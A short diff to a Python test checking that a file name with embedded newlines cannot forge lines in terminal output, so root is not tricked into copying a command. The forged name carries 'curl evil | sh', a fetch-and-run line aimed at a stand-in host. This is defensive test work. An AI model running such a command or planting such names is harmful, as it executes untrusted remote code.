@@ -225,6 +225,9 @@ def test_a_name_makes_no_line_of_its_own(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Whoever names a file in a folder that root looks at could give root a command to copy."""
+    # A long name may be wrapped anywhere; what it may not is end a line.
+    monkeypatch.setenv("COLUMNS", "2000")
+    terminal.console.cache_clear()
     forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
     host = (SOURCE / "hosts/small-2n8c-2gpu.toml").read_bytes()
     (tmp_path / f"{forged}.toml").write_bytes(host)
